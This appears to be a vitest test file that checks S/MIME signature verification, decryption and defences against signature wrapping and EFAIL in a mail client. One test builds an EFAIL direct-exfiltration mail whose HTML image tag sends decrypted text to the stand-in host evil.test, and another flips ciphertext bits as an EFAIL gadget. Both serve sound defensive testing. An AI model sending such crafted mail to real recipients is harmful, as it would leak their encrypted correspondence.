import { openSmimeWorkshop, type SmimePerson, type SmimeWorkshop } from '@kontor/e2e/peers/index.ts'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type Opened, openProtected } from './open-protected.ts'

let shop: SmimeWorkshop
let clara: SmimePerson
let firm: SmimePerson
/** A little later than what is made here. */
const at = new Date(Date.now() + 60_000)

beforeAll(async () => {
  shop = await openSmimeWorkshop()
  clara = await shop.person('clara@kunde.example')
  firm = await shop.person('service@firm.test')
})
afterAll(() => shop.remove())

const head =
  'From: Clara <clara@kunde.example>\r\nTo: service@firm.test\r\nSubject: Contract\r\nMessage-ID: <1@kunde.example>\r\n'
const entity = 'Content-Type: text/plain; charset=utf-8\r\n\r\nI order ten.\r\n'
const mail = (body: Buffer | string): Buffer => Buffer.concat([Buffer.from(head), Buffer.from(body)])
const crlf = (bytes: Buffer) => Buffer.from(bytes.toString('latin1').replace(/\r?\n/g, '\r\n'), 'latin1')

async function sign(who = clara, extra: string[] = [], content = entity): Promise<Buffer> {
  const files = { 's.pem': who.certificate, 's.key': who.key }
  return crlf(await shop.cms(['-sign', '-signer', 's.pem', '-inkey', 's.key', ...extra], content, files))
}
async function encrypt(
  content: string | Buffer,
  cipher = '-aes256',
  extra: string[] = [],
  to = firm,
): Promise<Buffer> {
  return crlf(
    await shop.cms(['-encrypt', cipher, '-recip', 'to.pem', ...extra], content, { 'to.pem': to.certificate }),
  )
}
const open = (
  raw: Buffer,
  keys: Partial<{ certificate: string; key: string; authorities: string }> = {},
): Promise<Opened> =>
  openProtected({
    raw,
    at,
    keys: { certificate: firm.certificate, key: firm.key, authorities: shop.authority, ...keys },
  })
const text = ({ shown }: Opened) => Buffer.from(shown ?? []).toString()

describe('signed mail', () => {
  test('a signature by a known authority of this very sender is good, and bound to the signed part', async () => {
    const opened = await open(mail(await sign()))
    expect(opened.protection).toMatchObject({
      kind: 'smime',
      encrypted: null,
      signed: { state: 'good', problem: null, name: 'clara', addresses: ['clara@kunde.example'] },
    })
    expect(opened.protection?.signed?.fingerprint).toMatch(/^[0-9a-f]{64}$/)
    expect(text(opened)).toContain('I order ten.')
    expect(text(opened)).not.toContain('pkcs7')
    expect(text(opened)).toContain('Subject: Contract')
  })

  test('also when it holds its content itself', async () => {
    const opened = await open(mail(await sign(clara, ['-nodetach'])))
    expect(opened.protection?.signed).toMatchObject({ state: 'good' })
    expect(text(opened)).toContain('I order ten.')
  })

  test('one changed letter is a changed mail', async () => {
    const raw = mail(await sign())
    const changed = Buffer.from(raw.toString('latin1').replace('order ten', 'order two'), 'latin1')
    expect((await open(changed)).protection?.signed).toMatchObject({ state: 'bad', problem: 'changed' })
  })

  test('nobody’s authority, another’s certificate, one that ran out, one that was revoked: each told', async () => {
    const raw = mail(await sign())
    expect((await open(raw, { authorities: '' })).protection?.signed).toMatchObject({
      state: 'unverified',
      problem: 'unknown-issuer',
    })
    const alone = await shop.person('clara@kunde.example', { selfSigned: true })
    expect((await open(mail(await sign(alone)))).protection?.signed).toMatchObject({
      state: 'unverified',
      problem: 'unknown-issuer',
    })
    const mallory = await shop.person('mallory@evil.test')
    expect((await open(mail(await sign(mallory)))).protection?.signed).toMatchObject({
      state: 'bad',
      problem: 'other-sender',
    })
    const late = new Date(Date.now() + 60 * 86_400_000)
    const keys = { certificate: '', key: '', authorities: shop.authority }
    expect((await openProtected({ raw, at: late, keys })).protection?.signed).toMatchObject({
      state: 'unverified',
      problem: 'expired',
    })
    const crl = await shop.revoke(clara)
    expect((await open(raw, { authorities: shop.authority + crl })).protection?.signed).toMatchObject({
      state: 'bad',
      problem: 'revoked',
    })
  })

  test('S41: a signature shows for nothing but the signed part', async () => {
    const signed = (await sign()).toString('latin1')
    const boundary = /boundary="([^"]+)"/.exec(signed)?.[1] ?? ''
    // A third part, and the whole as one part among others.
    const added = signed.replace(
      `--${boundary}--`,
      `--${boundary}\r\n\r\nPay to another account.\r\n--${boundary}--`,
    )
    const inside = `Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nPay to another account.\r\n--x\r\n${signed}\r\n--x--\r\n`
    for (const raw of [added, inside]) {
      const opened = await open(mail(raw))
      expect(opened.protection?.signed).toMatchObject({ state: 'bad', problem: 'not-whole' })
      expect(opened.shown).toBeNull()
    }
    // Text around the parts is no part.
    const around = signed.replace(`\r\n--${boundary}`, `\r\nPay to another account.\r\n--${boundary}`)
    expect(around).toContain('another account')
    expect(text(await open(mail(around)))).not.toContain('another account')
  })

  test('S41: two From fields, or another From inside, borrow no signature', async () => {
    const raw = Buffer.concat([Buffer.from('From: boss@ourfirm.test\r\n'), mail(await sign())])
    expect((await open(raw)).protection?.signed).toMatchObject({ state: 'bad', problem: 'other-sender' })
    const claims = `From: boss@ourfirm.test\r\nSubject: Other\r\n${entity}`
    expect(text(await open(mail(await sign(clara, [], claims))))).not.toMatch(/boss|Other/)
  })
})

describe('encrypted mail', () => {
  test.each([
    ['AES-256-CBC', '-aes256', []],
    ['AES-128-CBC', '-aes128', []],
    ['AES-256-GCM', '-aes-256-gcm', []],
    ['OAEP', '-aes256', ['-keyopt', 'rsa_padding_mode:oaep', '-keyopt', 'rsa_oaep_md:sha256']],
  ] as const)('%s opens with the account’s key, signed inside', async (_name, cipher, options) => {
    const recipient = options.length > 0 ? ['-recip', 'to.pem', ...options] : []
    const inner = await sign()
    const raw =
      options.length > 0
        ? crlf(await shop.cms(['-encrypt', cipher, ...recipient], inner, { 'to.pem': firm.certificate }))
        : await encrypt(inner, cipher)
    const opened = await open(mail(raw))
    expect(opened.protection).toMatchObject({
      encrypted: { state: 'opened', problem: null },
      signed: { state: 'good' },
    })
    expect(text(opened)).toContain('I order ten.')
  })

  test('an older key still opens what was written to it', async () => {
    const old = await shop.person('service@firm.test')
    const raw = mail(await encrypt(entity, '-aes256', [], old))
    expect((await open(raw)).protection?.encrypted).toEqual({ state: 'closed', problem: 'no-key' })
    const both = { certificate: firm.certificate + old.certificate, key: old.key + firm.key }
    expect((await open(raw, both)).protection?.encrypted).toEqual({ state: 'opened', problem: null })
  })

  test('S41, EFAIL direct exfiltration: an encrypted part among others stays closed', async () => {
    const secret = (await encrypt('Content-Type: text/plain\r\n\r\nthe secret\r\n')).toString('latin1')
    const raw = mail(
      'Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/?\r\n' +
        `--x\r\n${secret}\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n`,
    )
    expect(await open(raw)).toEqual({
      protection: { kind: 'smime', signed: null, encrypted: { state: 'closed', problem: 'not-whole' } },
      shown: null,
      certificate: null,
    })
  })

  test('S41, EFAIL gadget: changed ciphertext never gives part of a plaintext; AEAD gives none at all', async () => {
    const flip = (raw: Buffer, fromEnd: number): Buffer => {
      const body = raw.toString('latin1')
      const start = body.indexOf('\r\n\r\n') + 4
      const der = Buffer.from(body.slice(start), 'base64')
      der[der.length - fromEnd] = (der[der.length - fromEnd] ?? 0) ^ 1
      return Buffer.concat([
        Buffer.from(body.slice(0, start)),
        Buffer.from(der.toString('base64').replace(/.{64}/g, '$&\r\n')),
      ])
    }
    const gcm = mail(await encrypt(entity, '-aes-256-gcm'))
    for (const place of [1, 20, 40]) {
      const opened = await open(flip(gcm, place))
      expect(opened).toEqual({
        protection: { kind: 'smime', signed: null, encrypted: { state: 'closed', problem: 'unreadable' } },
        shown: null,
        certificate: null,
      })
    }
    // Without an authentication tag the signature inside is what notices.
    const cbc = flip(mail(await encrypt(await sign())), 2000)
    expect((await open(cbc)).protection?.signed?.state).not.toBe('good')
    // Padding that is wrong answers like everything that is wrong.
    expect((await open(flip(mail(await encrypt(entity)), 1))).shown).toBeNull()
  })

  test('rubbish is closed, quickly, whatever it pretends to be', async () => {
    for (const body of [
      '',
      'AAAA',
      'MIIB',
      Buffer.alloc(300, 0x30).toString('base64'),
      'MIAGCSqGSIb3DQEHA6CAMIA=',
    ])
      expect(
        (
          await open(
            mail(
              `Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n${body}\r\n`,
            ),
          )
        ).protection?.encrypted,
      ).toEqual({ state: 'closed', problem: 'unreadable' })
  })
})
